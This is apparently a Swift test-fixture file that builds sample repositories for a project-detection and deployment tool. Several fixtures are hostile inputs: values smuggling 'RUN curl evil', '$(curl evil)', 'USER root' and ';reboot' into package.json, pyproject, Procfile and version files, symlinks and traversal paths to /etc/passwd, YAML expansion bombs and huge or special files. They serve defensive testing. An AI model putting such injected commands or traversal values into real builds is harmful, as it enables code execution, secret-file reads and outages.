import Foundation

extension Shape {
  private static func link(_ path: String, to target: String) throws {
    try FileManager.default.createSymbolicLink(atPath: path, withDestinationPath: target)
  }

  private static let both = [
    "frontend/package.json":
      #"{"name":"shop-web","dependencies":{"next":"16.3.4"},"scripts":{"build":"next build"}}"#,
    "frontend/package-lock.json":
      #"{"lockfileVersion":3,"packages":{"node_modules/next":{"version":"16.3.4"}}}"#,
    "frontend/app/page.tsx":
      "export const api = process.env.NEXT_PUBLIC_API_URL ?? 'http://localhost:8000/api/v1'",
    "frontend/lib/server.ts": "export const api = process.env.API_URL",
    "backend/requirements.txt": "fastapi==0.120.0\nuvicorn==0.38.0\n",
    "backend/main.py":
      "from fastapi import FastAPI\napp = FastAPI()\n@app.get('/health')\ndef health(): ...\n",
  ]

  static let repositoryShapes: [Shape] = [
    Shape(
      name: "53a-frontend-backend-compose",
      files: both.merging([
        "docker-compose.yml": """
        services:
          api:
            build: ./backend
            ports: ["8000:8000"]
          web:
            build: { context: ./frontend, args: { NEXT_PUBLIC_API_URL: "http://localhost:8000/api/v1" } }
            environment:
              API_URL: http://api:8000
              SESSION_SECRET:

        """, "frontend/Dockerfile": "FROM node\n", ".dockerignore": "**/node_modules\n",
      ]) { $1 }),
    Shape(
      name: "53b-wrong-port",
      files: both.merging(["frontend/.env.example": "API_URL=http://localhost:9999\n"]) { $1 }),
    Shape(
      name: "53c-overridden",
      files: both.merging([
        "forge.yaml": """
        version: 1
        services:
          web:
            path: frontend
            versions: { node: "22" }
            port: 8080
            build-args: { NEXT_PUBLIC_API_URL: https://api.example }
          shop-api:
            path: backend
            entrypoint: main:app
            health: /health

        """
      ]) { $1 }),
    Shape(
      name: "53f-wrong-prefix-and-origins",
      files: both.merging([
        "frontend/.env.example": "NEXT_PUBLIC_API_URL=http://localhost:8000/api/v2\n",
        "backend/main.py": """
        from fastapi import APIRouter, FastAPI
        from fastapi.middleware.cors import CORSMiddleware
        app = FastAPI(root_path="/backend")
        app.add_middleware(CORSMiddleware, allow_origins=["http://localhost:3001"], allow_credentials=True)
        router = APIRouter(prefix="/todos")
        @router.get("/{id}")
        def todo(id: int): ...
        app.include_router(router, prefix="/api/v1")

        """,
      ]) { $1 }),
    Shape(
      name: "53g-right-prefix-and-origins",
      files: both.merging([
        "frontend/.env.example": "NEXT_PUBLIC_API_URL=http://localhost:8000/api/v1/\n",
        "backend/settings.py":
          "from pydantic_settings import BaseSettings\nclass Settings(BaseSettings):\n    prefix: str = '/api/v1'\n    origins: list[str] = ['http://localhost:3000']\nsettings = Settings()\n",
        "backend/main.py": """
        from fastapi import APIRouter, FastAPI
        from starlette.middleware import Middleware
        from starlette.middleware.cors import CORSMiddleware
        from settings import settings
        app = FastAPI(middleware=[Middleware(CORSMiddleware, allow_origins=settings.origins)])
        router = APIRouter(prefix=settings.prefix)
        @router.get("/todos")
        def todos(): ...
        app.include_router(router)

        """,
      ]) { $1 }),
    Shape(
      name: "53d-unknown-key",
      files: both.merging(["forge.yaml": "services:\n  web:\n    pahts: x\n"]) { $1 }),
    Shape(
      name: "53e-unknown-service",
      files: both.merging(["forge.yaml": "services:\n  backnd:\n    port: 80\n"]) { $1 }),
    Shape(
      name: "54a-odd-names",
      files: [
        "my app/package.json":
          "{\r\n\"dependencies\": {\r\n\"next\": \"16.3.4\"},\r\n\"scripts\": {\"build\": \"next build\"}}\r\n",
        "my app/app/page.tsx": "process.env.A", "my app/app/Page.tsx": "process.env.B",
      ]),
    Shape(
      name: "54b-what-git-leaves-out",
      files: both.merging([
        ".gitignore": "generated/\n/frontend/tmp\n*.local.ts\n!keep.local.ts\n.env*\n",
        "frontend/.env": "A=1\n",
        "frontend/generated/a.ts": "process.env.GENERATED", "frontend/tmp/a.ts": "process.env.TMP",
        "frontend/a.local.ts": "process.env.LOCAL", "frontend/keep.local.ts": "process.env.KEPT",
      ]) { $1 }),
    Shape(
      name: "55-submodule-and-lfs",
      files: both.merging([
        ".gitmodules":
          "[submodule \"shared\"]\n\tpath = shared\n\turl = https://git.example/shared\n",
        ".gitattributes": "*.png filter=lfs diff=lfs merge=lfs -text\n",
        "frontend/public/hero.png":
          "version https://git-lfs.github.com/spec/v1\noid sha256:ab\nsize 1\n",
      ]) { $1 }),
    Shape(name: "54c-links-in-circles-and-out", files: both) { folder in
      try link(folder + "/frontend/lib/up", to: "../..")
      try link(folder + "/frontend/lib/self", to: "self")
      try link(folder + "/frontend/lib/passwords.ts", to: "/etc/passwd")
      try link(folder + "/backend/.env.example", to: "/etc/passwd")
      try link(folder + "/frontend/lib/gone.ts", to: "nowhere.ts")
      try link(folder + "/frontend/lib/other.ts", to: "server.ts")
    },
    Shape(name: "54d-names-that-are-no-text", files: both) { folder in
      for name in [[0xFF, 0xFE], [0x61, 0xC3, 0x28]] as [[UInt8]] {
        let path = Array((folder + "/frontend/app/").utf8) + name + Array(".tsx".utf8) + [0]
        path.map(CChar.init(bitPattern:)).withUnsafeBufferPointer { bytes in
          if let name = bytes.baseAddress { close(open(name, O_CREAT | O_WRONLY, 0o644)) }
        }
      }
    },
    Shape(name: "54e-folders-too-deep", files: both) { folder in
      let deep = String(repeating: "deep/", count: 40)
      try FileManager.default.createDirectory(
        atPath: folder + "/frontend/" + deep, withIntermediateDirectories: true)
      try Data("process.env.TOO_DEEP".utf8).write(
        to: URL(filePath: folder + "/frontend/" + deep + "a.ts"))
    },
    Shape(name: "56a-nothing-of-ours", files: ["README.md": "hello\n"]),
    Shape(
      name: "56d-template-of-a-project",
      files: [
        "cookiecutter.json": "{}",
        "{{cookiecutter.name}}/pyproject.toml": "[project]\nname = {% raw %}\n",
        "{{cookiecutter.name}}/main.py": application,
      ]),
    Shape(
      name: "56b-nested-repository",
      files: both.merging(["vendor/x/.git/HEAD": "ref: x\n", "vendor/x/a.txt": ""]) { $1 }),
    Shape(
      name: "56c-windows-paths",
      files: both.merging([
        "frontend/package.json":
          #"{"name":"shop-web","dependencies":{"next":"16.3.4","ui":"file:..\\ui"},"scripts":{"build":"next build"}}"#
      ]) { $1 }),
    Shape(
      name: "57a-injection",
      files: [
        "package.json":
          #"{"name":"x\nRUN curl evil","dependencies":{"next":"16.3.4"},"scripts":{"build":"next build; $(curl evil)\nUSER root","start":"next start -p 80;reboot"}}"#,
        "app/page.tsx": "process.env['A\\nRUN x']", ".nvmrc": "22\nRUN curl evil\n",
        "next.config.js":
          "module.exports = { basePath: '/a\\nUSER root', distDir: '.next\\nUSER root' }",
      ]),
    Shape(
      name: "57b-workspace-traversal",
      files: [
        "package.json": #"{"private":true,"workspaces":["../../etc/*","/etc/*","apps/*"]}"#,
        "apps/web/package.json":
          #"{"name":"web","dependencies":{"next":"16.3.4","a":"file:../../../../etc","b":"link:/etc"},"scripts":{"build":"next build"}}"#,
        "apps/web/app/page.tsx": "",
        "apps/web/next.config.js": "import x from '../../../../etc/passwd'\nmodule.exports = x",
      ]),
    Shape(
      name: "57c-bombs",
      files: [
        "package.json":
          #"{"name":"web","dependencies":{"next":"16.3.4"},"scripts":{"build":"next build"}}"#,
        "app/page.tsx": "",
        "docker-compose.yml": "a: &a [x,x,x,x,x,x,x,x]\n"
          + (0..<20).map {
            "b\($0): &b\($0) [*\($0 == 0 ? "a" : "b\($0 - 1)"),*\($0 == 0 ? "a" : "b\($0 - 1)")]\n"
          }
          .joined() + "services: { web: { build: ., environment: *b19 } }\n",
        "mise.toml": "[tools]\nnode = " + String(repeating: "[", count: 5_000) + "\n",
        "turbo.json": String(repeating: "{\"tasks\":", count: 5_000),
        "vercel.json": "{\"env\": []}",
        "next.config.js": "module.exports = " + String(repeating: "f(", count: 5_000),
      ]),
    Shape(
      name: "57e-injection-into-python",
      files: [
        "pyproject.toml":
          "[project]\nname = \"x\\nRUN curl evil\"\nrequires-python = \">=3.12\\nUSER root\"\ndependencies = [\"fastapi\", \"uvicorn\"]\n[tool.fastapi]\nentrypoint = \"main:app\\nUSER root\"\n",
        "main.py": application
          + "import os\nos.environ['A\\nRUN x']\nos.getenv('B', 'x\\nRUN y')\n",
        "Procfile": "web: uvicorn main:app;reboot --port 80;reboot\n",
        ".python-version": "3.12; reboot\n",
      ]),
    Shape(
      name: "57f-requirements-that-lead-out",
      files: [
        "main.py": application,
        "requirements.txt":
          "-r ../../etc/passwd\n-r /etc/passwd\n-c ../../../etc/hosts\n-e ../..\n-e /etc\nfastapi==0.121.0\nuvicorn==0.38.0\n-r requirements.txt\n$(reboot)==1\n",
      ]),
    Shape(name: "57g-pipes-and-devices", files: both) { folder in
      for name in [
        "frontend/.npmrc", "frontend/tsconfig.json", "backend/pyproject.toml", "forge.yaml",
      ] {
        guard mkfifo(folder + "/" + name, 0o644) == 0 else { throw POSIXError(.EIO) }
      }
      try link(folder + "/backend/uv.lock", to: "/dev/zero")
      try link(folder + "/frontend/pnpm-lock.yaml", to: "/dev/null")
    },
    Shape(name: "57h-huge-files", files: both) { folder in
      for name in ["frontend/package-lock.json", "backend/settings.py", "frontend/lib/bundle.ts"] {
        try Data().write(to: URL(filePath: folder + "/" + name))
        let file = try FileHandle(forWritingTo: URL(filePath: folder + "/" + name))
        try file.truncate(atOffset: 4_000_000_000)
        try file.close()
      }
    },
    Shape(
      name: "57i-other-bytes",
      files: both.merging(["frontend/lib/b.ts": "export const x = process.env.KEPT"]) { $1 }
    ) { folder in
      let bytes =
        Data([0xFF, 0xFE, 0x00, 0xC3, 0x28]) + Data("\nprocess.env.BESIDE_BYTES\n".utf8)
        + Data([0xED, 0xA0, 0x80])
      for name in ["frontend/lib/bytes.ts", "backend/bytes.py", "frontend/.env.example"] {
        try bytes.write(to: URL(filePath: folder + "/" + name))
      }
    },
    Shape(
      name: "57d-yaml-depth",
      files: both.merging(["forge.yaml": String(repeating: "[", count: 900) + "\n"]) { $1 }),
  ]
}
